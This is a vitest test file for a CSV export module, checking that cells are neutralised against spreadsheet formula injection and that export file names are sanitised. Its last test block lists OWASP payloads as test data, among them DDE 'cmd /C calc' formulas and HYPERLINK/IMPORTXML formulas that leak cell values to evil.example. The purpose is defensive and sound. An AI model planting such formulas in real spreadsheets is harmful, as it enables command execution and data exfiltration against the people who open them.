import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { textSource } from '../../../src/core/read/byteSource';
import {
  csvField,
  exportFileName,
  neutraliseCell,
  segmentCsvParts,
  setAsideCsvParts,
} from '../../../src/core/export/exportCsv';
import { readCsv } from '../../../src/core/read/readCsv';

const parse = (parts: string[]) =>
  Papa.parse<string[]>(parts.join('').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;

describe('neutraliseCell', () => {
  it('defuses every formula trigger, including multi-line and full-width ones', () => {
    for (const cell of [
      '=1+1',
      '+SUM(A1)',
      '-2+3',
      '@cmd',
      '\tx',
      '\rx',
      '\nx',
      '=A1\n=A2',
      ' =1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠x',
    ]) {
      expect(neutraliseCell(cell, false), JSON.stringify(cell)).toBe(`'${cell}`);
    }
  });
  it('leaves genuine numbers and ordinary text alone', () => {
    expect(neutraliseCell('-5', true)).toBe('-5');
    expect(neutraliseCell('hello', false)).toBe('hello');
    expect(neutraliseCell('a=b', false)).toBe('a=b');
    expect(neutraliseCell('', false)).toBe('');
  });
});

describe('csvField', () => {
  it('quotes only when needed', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(' padded')).toBe('" padded"');
  });

  it('never writes a NUL byte: it becomes the replacement character', () => {
    expect(csvField('a\u0000b')).toBe('a\ufffdb');
    expect(csvField('\u0000,x')).toBe('"\ufffd,x"');
  });
});

describe('segmentCsvParts', () => {
  const text =
    'id;name;spend;note\n0001;Ann;12,50;"=HYPERLINK(""x"")"\n0002;Bob;-5;"line one\n-line two"\n0003;Cy;7;@home\n';

  it('repeats the original text of every row exactly once, plus segment and label', async () => {
    const table = await readCsv(textSource(text));
    const parts = segmentCsvParts({
      table,
      rows: Int32Array.from([0, 1, 2]),
      labels: Int32Array.from([1, 0, 1]),
      segmentLabels: new Map([
        [0, 'Low spend'],
        [1, '+High spend'],
      ]),
      numericColumns: [true, false, true, false],
    });
    expect(parts.join('').startsWith('\uFEFF')).toBe(true);
    expect(parse(parts)).toEqual([
      ['id', 'name', 'spend', 'note', 'segment', 'segment_label'],
      ['0001', 'Ann', '12,50', `'=HYPERLINK("x")`, '1', `'+High spend`],
      // A cell that starts with a letter is no formula, whatever its later lines hold.
      ['0002', 'Bob', '-5', 'line one\n-line two', '0', 'Low spend'],
      ['0003', 'Cy', '7', `'@home`, '1', `'+High spend`],
    ]);
  });

  it('writes one segment alone when asked', async () => {
    const table = await readCsv(textSource(text));
    const parts = segmentCsvParts({
      table,
      rows: Int32Array.from([0, 1, 2]),
      labels: Int32Array.from([1, 0, 1]),
      segmentLabels: new Map([[1, 'x']]),
      numericColumns: [true, false, true, false],
      segment: 1,
    });
    expect(parse(parts).map((row) => row[0])).toEqual(['id', '0001', '0003']);
  });

  it('does not clobber a column already called segment', async () => {
    const table = await readCsv(textSource('segment,x\nA,1\n'));
    const parts = segmentCsvParts({
      table,
      rows: Int32Array.from([0]),
      labels: Int32Array.from([0]),
      segmentLabels: new Map([[0, 'all']]),
      numericColumns: [false, true],
    });
    expect(parse(parts)[0]).toEqual(['segment', 'x', 'segment_2', 'segment_label']);
  });

  it('defuses a minus in a text column but keeps it in a numeric one', async () => {
    const table = await readCsv(textSource('code,amount\n-12,-12\n'));
    const parts = segmentCsvParts({
      table,
      rows: Int32Array.from([0]),
      labels: Int32Array.from([0]),
      segmentLabels: new Map([[0, 'a']]),
      numericColumns: [false, true],
    });
    expect(parse(parts)[1]).toEqual(["'-12", '-12', '0', 'a']);
  });
});

describe('setAsideCsvParts', () => {
  it('lists set-aside rows with line, reason, detail and their cells or original text', async () => {
    const table = await readCsv(textSource('a,b\n1,2\n3,4,5\n=1,6\n'));
    const parts = setAsideCsvParts(
      table,
      [
        { row: 1, reason: 'malformed', detail: '3 fields where the header has 2' },
        { row: 2, reason: 'missing', detail: 'no value for a' },
      ],
      [true, true],
    );
    expect(parse(parts)).toEqual([
      ['line', 'reason', 'detail', 'a', 'b', 'original_text'],
      ['3', 'malformed', '3 fields where the header has 2', '', '', '3,4,5'],
      ['4', 'missing', 'no value for a', "'=1", '6', ''],
    ]);
  });
});

describe('exportFileName', () => {
  it('carries the source name and the label, without characters file systems refuse', () => {
    expect(exportFileName('customers.csv', 'High Income, Low Spend')).toBe(
      'customers - High Income, Low Spend.csv',
    );
    expect(exportFileName('a/b.csv', 'x: y?')).toBe('a b - x y.csv');
  });

  it('drops direction overrides and other invisible characters (#20: U+202E reached --out names)', () => {
    expect(exportFileName('segment-1', 'High \u202Evsc.exe')).toBe('segment-1 - High vsc.exe.csv');
    expect(exportFileName('x.csv', 'a\u200Bb\u2066c\u2069\u061C\u2028d')).toBe('x - a b c d.csv');
    expect(exportFileName('x.csv', 'ends with dots...')).toBe('x - ends with dots.csv');
    expect(exportFileName('客户.csv', '高消费')).toBe('客户 - 高消费.csv');
  });
});

describe('spreadsheet formula injection (OWASP payloads and what slipped through before)', () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '\t=1+1',
    '\r=1+1',
    // Amounts the analysis reads as numbers, which a spreadsheet reads as formulas over cells.
    '-USD5',
    '+EUR12',
    '-CHF1',
    '-GBP10',
    '-$12',
    '+1+cmd|x!A0',
    // Invisible characters before the formula do not hide it.
    '\v=1+1',
    '\f=1+1',
    '\u3000=1+1',
    '\u2003=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u00a0-1+1',
  ];

  it('neutralises every payload, in a text column and in a numeric one', () => {
    for (const cell of payloads) {
      expect(neutraliseCell(cell, false), JSON.stringify(cell)).toBe(`'${cell}`);
      expect(neutraliseCell(cell, true), JSON.stringify(cell)).toBe(`'${cell}`);
    }
  });

  it('keeps a plain number verbatim in a numeric column, with a decimal point or comma', () => {
    for (const cell of ['-5', '+1.5', '1,234.5', '-1,234.5', '.5', '-2e-3', '12%', ' -5', '-1,5'])
      expect(neutraliseCell(cell, true), cell).toBe(cell);
    expect(neutraliseCell('-1.234,5', true)).toBe('-1.234,5');
  });

  it('defuses an amount with a currency code in a numeric column of a segment export', async () => {
    const table = await readCsv(textSource('id,amount\n1,-USD5\n2,+EUR12\n3,-7\n'));
    const parts = segmentCsvParts({
      table,
      rows: Int32Array.from([0, 1, 2]),
      labels: Int32Array.from([0, 0, 0]),
      segmentLabels: new Map([[0, 'a']]),
      numericColumns: [true, true],
    });
    expect(parse(parts).map((row) => row[1])).toEqual(['amount', "'-USD5", "'+EUR12", '-7']);
  });
});
